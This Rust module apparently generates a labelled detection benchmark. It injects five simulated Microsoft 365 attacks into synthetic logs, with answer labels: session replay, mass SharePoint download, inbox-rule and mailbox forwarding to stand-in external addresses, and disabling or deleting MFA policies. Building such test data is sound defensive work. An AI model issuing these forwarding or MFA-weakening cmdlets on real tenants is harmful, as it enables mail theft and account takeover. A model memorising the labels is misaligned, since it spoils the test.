//! The tenant's labelled attacks (M1–M5, in the last six days) and the plan of every
//! injected record (attacks and the planned benign look-alikes of `planned.rs`).
//!
//! | id | analytic | what | day, local time |
//! |---|---|---|---|
//! | `M1-session-new-ip-night` | `session_anomaly` (T1078.004) | `maria.gonzalez` (Sales, New York) used from 146.70.117.56: 19 interactive sign-ins and 6 Teams sessions in under 2 hours | end − 4, 02:07 |
//! | `M2-sharepoint-mass-download` | `file_access_anomaly` (T1213.002) | `oliver.hughes` (Engineering, London, ≈ 20 files a day) downloads 340 distinct files in 50 minutes from 91.132.139.204 with `python-requests/2.31.0` | end − 3, 13:05 |
//! | `M3-inbox-rule-external-forward` | `mail_forwarding_rule` (T1114.003) | `katrin.vogel` (HR, Berlin), signed in from 102.165.48.77, creates rule `.` forwarding invoice mail to `collector@proton-mail.example`, deleting it and stopping processing | end − 2, 17:38 |
//! | `M4-admin-sets-mailbox-forwarding` | `mail_forwarding_rule` (T1114.003) | IT admin `dan.whitaker` (New York), from 45.146.164.110, sets `ForwardingSmtpAddress` of the CFO `margaret.olsen` and, 35 minutes later, of `raj.patel` to `fin.reports@mailvault.example` | end − 5, 18:12 |
//! | `M5-ca-policy-weakened` | `conditional_access_change` (T1556.009) | IT admin `lukas.weber` (Berlin), from 103.107.196.22, disables "Require MFA for all users" (enabled → disabled); no change request | end − 2, 14:41 |
//! | `M5-ca-policy-deleted` | `conditional_access_change` (T1556.009) | the same session deletes "Require MFA for administrators"; no change request | end − 2, 14:53 |
//!
//! The two M5 variants are two labels (one decisive record each), so recall counts the
//! disable and the delete separately. M3–M5 happen in the victims' working hours, as an
//! attacker replaying a stolen session blends in; only M1 is at night. No labelled principal did its labelled kind of action
//! before. `event_uids` hold only the decisive records (M1: the sign-ins, their Azure AD
//! logons and the Teams sessions from the new address; M2: the downloads; M3, M4: the
//! cmdlets; M5: the policy audits); the context an attacker leaves (the sign-in before an
//! inbox rule, mail read from the new address, token refreshes) is unlabelled.

use chrono::{NaiveDate, TimeZone};

use super::super::attacks::AttackLabel;
use super::super::rng::{hash, Rng};
use super::activity::{
    Body, DirAudit, FileOp, FileRef, Ip, Rec, SignInKind, Ua, Who, NONE, STREAM_PLAN,
};
use super::entra::{policy_json, APP_EXO_POWERSHELL, APP_PORTAL};
use super::people::{Dept, Policy, Tenant, ATTACK_IPS, MFA_ADMINS, MFA_ALL, TENANT_ID};
use super::records::new_id;

const UA_ATTACKER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0";
const UA_PYTHON: &str = "python-requests/2.31.0";
/// The external collection addresses.
pub(crate) const M3_FORWARD_TO: &str = "collector@proton-mail.example";
pub(crate) const M4_FORWARD_TO: &str = "fin.reports@mailvault.example";

/// A planned, approved change (`change_requests.csv`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Ticket {
    pub id: String,
    /// Lower-case UPN of the person who makes the change.
    pub actor: String,
    /// The conditional-access policy id the change is about.
    pub target: String,
    /// Approved window, Unix seconds.
    pub start: i64,
    pub end: i64,
}

/// Every injected record, with the labels and change requests.
#[derive(Debug, Default)]
pub(crate) struct Plan {
    pub recs: Vec<Rec>,
    /// Fixed record ids (labelled records).
    pub ids: Vec<String>,
    /// Time (µs) of each fixed id's record.
    pub times: Vec<i64>,
    pub labels: Vec<AttackLabel>,
    pub tickets: Vec<Ticket>,
}

/// Builds the plan in time order of the scenario (policies change as it goes).
pub(crate) struct Builder<'a> {
    pub t: &'a Tenant,
    pub plan: Plan,
    pub rng: Rng,
    /// Current state of the conditional-access policies (`None`: deleted / not yet made).
    pub policies: Vec<Option<Policy>>,
}

/// `YYYY-MM-DDTHH:MM:SSZ`.
pub(crate) fn rfc3339(t: i64) -> String {
    chrono::DateTime::from_timestamp(t, 0)
        .unwrap_or_default()
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string()
}

impl<'a> Builder<'a> {
    pub(crate) fn new(t: &'a Tenant) -> Self {
        let mut policies: Vec<Option<Policy>> = t.policies.iter().cloned().map(Some).collect();
        // The compliant-device policy is created during the period (planned change).
        policies[super::people::COMPLIANT_ADMINS] = None;
        Builder {
            t,
            plan: Plan::default(),
            rng: Rng::new(hash(&[t.seed, 0x7e4a])),
            policies,
        }
    }

    /// Day `back` days before the last one, clamped into the period (days since the epoch).
    pub(crate) fn day(&self, back: i64) -> i64 {
        (self.t.last - back).max(self.t.first)
    }

    /// Unix µs of local time `h:m:s` of person `p` on day `day`.
    pub(crate) fn local(&self, p: u16, day: i64, h: u32, m: u32, s: u32) -> i64 {
        let tz = self.t.people[p as usize].tz();
        let date =
            NaiveDate::from_ymd_opt(1970, 1, 1).expect("epoch") + chrono::Days::new(day as u64);
        let naive = date.and_hms_opt(h, m, s).expect("valid time");
        let at = tz
            .from_local_datetime(&naive)
            .earliest()
            .unwrap_or_else(|| tz.from_utc_datetime(&naive));
        at.timestamp() * 1_000_000
    }

    /// Adds a record; a labelled one gets a fixed id, whose index is returned.
    pub(crate) fn rec(
        &mut self,
        t_us: i64,
        who: Who,
        ip: Ip,
        ua: Ua,
        body: Body,
        labelled: bool,
    ) -> Option<usize> {
        let fixed = if labelled {
            let id = new_id(&body, &mut self.rng);
            self.plan.ids.push(id);
            self.plan.times.push(t_us);
            (self.plan.ids.len() - 1) as u32
        } else {
            NONE
        };
        let seq = STREAM_PLAN << 56 | self.plan.recs.len() as u64;
        self.plan.recs.push(Rec {
            t_us,
            seq,
            who,
            ip,
            ua,
            body,
            fixed,
        });
        labelled.then_some(fixed as usize)
    }

    /// An interactive sign-in and its Azure AD logon two seconds later (both labelled or not).
    pub(crate) fn signin(
        &mut self,
        t_us: i64,
        p: u16,
        ip: Ip,
        ua: Ua,
        app: u8,
        labelled: bool,
    ) -> Vec<usize> {
        let who = Who::Person(p);
        let a = self.rec(
            t_us,
            who,
            ip,
            ua,
            Body::SignIn {
                kind: SignInKind::Interactive,
                app,
                error: 0,
            },
            labelled,
        );
        let b = self.rec(
            t_us + 2_000_000,
            who,
            ip,
            ua,
            Body::UserLoggedIn { app, error: 0 },
            labelled,
        );
        a.into_iter().chain(b).collect()
    }

    /// A conditional-access audit by person `p`: `op` is `Add`, `Update` or `Delete`;
    /// `new` is the policy after the change (`None` for a delete).
    pub(crate) fn ca_change(
        &mut self,
        t_us: i64,
        p: u16,
        ip: Ip,
        index: usize,
        new: Option<Policy>,
        labelled: bool,
    ) -> Option<usize> {
        let modified = super::records::creation_time(t_us) + ".0000000+00:00";
        let old = self.policies[index].clone();
        let (op, activity) = match (&old, &new) {
            (None, _) => ("Add", "Add conditional access policy"),
            (Some(_), None) => ("Delete", "Delete conditional access policy"),
            (Some(_), Some(_)) => ("Update", "Update conditional access policy"),
        };
        let mut new = new;
        if let Some(n) = new.as_mut() {
            if n.created.is_empty() {
                n.created = modified.clone();
            }
        }
        let any = new
            .as_ref()
            .or(old.as_ref())
            .expect("a change has a policy")
            .clone();
        let audit = DirAudit {
            activity,
            service: "Conditional Access",
            category: "Policy",
            op_type: op,
            target_id: any.id.clone(),
            target_name: any.name.to_string(),
            target_type: "Policy",
            target_upn: None,
            props: vec![(
                "ConditionalAccessPolicy".to_string(),
                old.as_ref().map(|o| policy_json(o, "")),
                new.as_ref().map(|n| policy_json(n, &modified)),
            )],
        };
        self.policies[index] = new;
        self.rec(
            t_us,
            Who::Person(p),
            ip,
            Ua::Browser,
            Body::Audit(Box::new(audit)),
            labelled,
        )
    }

    pub(crate) fn label(
        &mut self,
        attack_id: &str,
        analytic: &str,
        technique: &str,
        p: u16,
        ids: &[usize],
    ) {
        let times: Vec<i64> = ids.iter().map(|&i| self.plan.times[i]).collect();
        let first = times.iter().min().expect("an attack has records");
        let last = times.iter().max().expect("an attack has records");
        self.plan.labels.push(AttackLabel {
            attack_id: attack_id.into(),
            analytic: analytic.into(),
            technique: technique.into(),
            account_uid: TENANT_ID.into(),
            actor_uid: self.t.people[p as usize].upn.clone(),
            start: rfc3339(first.div_euclid(1_000_000)),
            // Entra keeps sub-second times: the end covers the last record's whole second.
            end: rfc3339(last.div_euclid(1_000_000) + 1),
            event_uids: ids.iter().map(|&i| self.plan.ids[i].clone()).collect(),
            also: crate::generate::attacks::also_found_by(attack_id),
        });
    }
}

/// The whole plan for the tenant's period: benign look-alikes, then the attacks.
pub(crate) fn plan(t: &Tenant) -> Plan {
    let mut b = Builder::new(t);
    super::planned::benign(&mut b);
    m4(&mut b);
    m1(&mut b);
    m2(&mut b);
    m3(&mut b);
    m5(&mut b);
    b.plan
}

fn m1(b: &mut Builder<'_>) {
    let maria = b.t.person("maria.gonzalez");
    let ip = Ip::Fixed(ATTACK_IPS[0]);
    let ua = Ua::Fixed(UA_ATTACKER);
    let t0 = b.local(maria, b.day(4), 2, 7, 31);
    let mut ids = Vec::new();
    // Token replay: a burst of interactive sign-ins across apps, Teams opened repeatedly.
    let apps = [0u8, 3, 2, 1, 0, 3, 4, 2, 0, 3, 1, 2, 0, 3, 4, 0, 2, 3, 1];
    let mut at = t0;
    for (k, app) in apps.iter().enumerate() {
        at += 90_000_000 + b.rng.below(180_000_000) as i64;
        ids.extend(b.signin(at, maria, ip, ua, *app, true));
        if k % 3 == 1 {
            let t = at + 20_000_000 + b.rng.below(40_000_000) as i64;
            ids.extend(b.rec(t, Who::Person(maria), ip, ua, Body::Teams, true));
        }
        if k % 4 == 0 {
            let t = at + 5_000_000 + b.rng.below(60_000_000) as i64;
            let items = 6 + b.rng.below(10) as u32;
            b.rec(t, Who::Person(maria), ip, ua, Body::Mail { items }, false);
            b.rec(
                t + 1_000_000,
                Who::Person(maria),
                ip,
                ua,
                Body::SignIn {
                    kind: SignInKind::NonInteractive,
                    app: 4,
                    error: 0,
                },
                false,
            );
        }
    }
    b.label(
        "M1-session-new-ip-night",
        "session_anomaly",
        "T1078.004",
        maria,
        &ids,
    );
}

fn m2(b: &mut Builder<'_>) {
    let oliver = b.t.person("oliver.hughes");
    let ip = Ip::Fixed(ATTACK_IPS[1]);
    let ua = Ua::Fixed(UA_PYTHON);
    let t0 = b.local(oliver, b.day(3), 13, 2, 10);
    // A stolen refresh token redeemed by the script (non-interactive), then the sweep.
    b.rec(
        t0,
        Who::Person(oliver),
        ip,
        ua,
        Body::SignIn {
            kind: SignInKind::NonInteractive,
            app: 2,
            error: 0,
        },
        false,
    );
    b.rec(
        t0 + 95_000_000,
        Who::Person(oliver),
        ip,
        ua,
        Body::SignIn {
            kind: SignInKind::NonInteractive,
            app: 4,
            error: 0,
        },
        false,
    );
    let site = Dept::Engineering.site() as u8;
    let mut at = t0 + 180_000_000;
    let mut ids = Vec::new();
    for k in 0..340u32 {
        at += 6_000_000 + b.rng.below(5_000_000) as i64;
        let file = FileRef::Site(site, k);
        ids.extend(b.rec(
            at,
            Who::Person(oliver),
            ip,
            ua,
            Body::File {
                op: FileOp::Downloaded,
                file,
            },
            true,
        ));
    }
    b.label(
        "M2-sharepoint-mass-download",
        "file_access_anomaly",
        "T1213.002",
        oliver,
        &ids,
    );
}

fn m3(b: &mut Builder<'_>) {
    let katrin = b.t.person("katrin.vogel");
    let ip = Ip::Fixed(ATTACK_IPS[2]);
    let ua = Ua::Fixed(UA_ATTACKER);
    let t0 = b.local(katrin, b.day(2), 17, 31, 4);
    b.signin(t0, katrin, ip, ua, 0, false);
    b.signin(t0 + 50_000_000, katrin, ip, ua, 3, false);
    for k in 0..4 {
        let items = 4 + b.rng.below(9) as u32;
        b.rec(
            t0 + 120_000_000 + k * 45_000_000,
            Who::Person(katrin),
            ip,
            ua,
            Body::Mail { items },
            false,
        );
    }
    let p = &b.t.people[katrin as usize];
    let body = Body::Cmdlet {
        op: "New-InboxRule",
        object_id: format!("{}\\.", p.mailbox_path()),
        params: vec![
            ("AlwaysDeleteOutlookRulesBlob", "False".into()),
            ("Force", "False".into()),
            ("Name", ".".into()),
            (
                "SubjectOrBodyContainsWords",
                "invoice;payment;wire;bank".into(),
            ),
            ("ForwardTo", M3_FORWARD_TO.into()),
            ("DeleteMessage", "True".into()),
            ("StopProcessingRules", "True".into()),
        ],
    };
    let id = b.rec(
        b.local(katrin, b.day(2), 17, 38, 12),
        Who::Person(katrin),
        ip,
        ua,
        body,
        true,
    );
    b.label(
        "M3-inbox-rule-external-forward",
        "mail_forwarding_rule",
        "T1114.003",
        katrin,
        &Vec::from_iter(id),
    );
}

fn m4(b: &mut Builder<'_>) {
    let dan = b.t.person("dan.whitaker");
    let ip = Ip::Fixed(ATTACK_IPS[3]);
    let ua = Ua::Fixed(UA_ATTACKER);
    let t0 = b.local(dan, b.day(5), 18, 5, 40);
    b.signin(t0, dan, ip, ua, APP_EXO_POWERSHELL, false);
    let mut ids = Vec::new();
    for (victim, after_s) in [("margaret.olsen", 400), ("raj.patel", 400 + 35 * 60)] {
        let v = b.t.person(victim);
        let p = &b.t.people[v as usize];
        let body = Body::Cmdlet {
            op: "Set-Mailbox",
            object_id: p.mailbox_path(),
            params: vec![
                ("Identity", p.upn.clone()),
                ("ForwardingSmtpAddress", format!("smtp:{M4_FORWARD_TO}")),
                ("DeliverToMailboxAndForward", "True".into()),
            ],
        };
        ids.extend(b.rec(
            t0 + after_s * 1_000_000,
            Who::Person(dan),
            ip,
            ua,
            body,
            true,
        ));
    }
    b.label(
        "M4-admin-sets-mailbox-forwarding",
        "mail_forwarding_rule",
        "T1114.003",
        dan,
        &ids,
    );
}

fn m5(b: &mut Builder<'_>) {
    let lukas = b.t.person("lukas.weber");
    let ip = Ip::Fixed(ATTACK_IPS[4]);
    let t0 = b.local(lukas, b.day(2), 14, 35, 18);
    b.signin(t0, lukas, ip, Ua::Fixed(UA_ATTACKER), APP_PORTAL, false);
    let mut weakened = b.policies[MFA_ALL].clone().expect("the MFA policy exists");
    weakened.state = "disabled";
    let id = b.ca_change(
        b.local(lukas, b.day(2), 14, 41, 3),
        lukas,
        ip,
        MFA_ALL,
        Some(weakened),
        true,
    );
    b.label(
        "M5-ca-policy-weakened",
        "conditional_access_change",
        "T1556.009",
        lukas,
        &Vec::from_iter(id),
    );
    let id = b.ca_change(
        b.local(lukas, b.day(2), 14, 53, 47),
        lukas,
        ip,
        MFA_ADMINS,
        None,
        true,
    );
    b.label(
        "M5-ca-policy-deleted",
        "conditional_access_change",
        "T1556.009",
        lukas,
        &Vec::from_iter(id),
    );
}
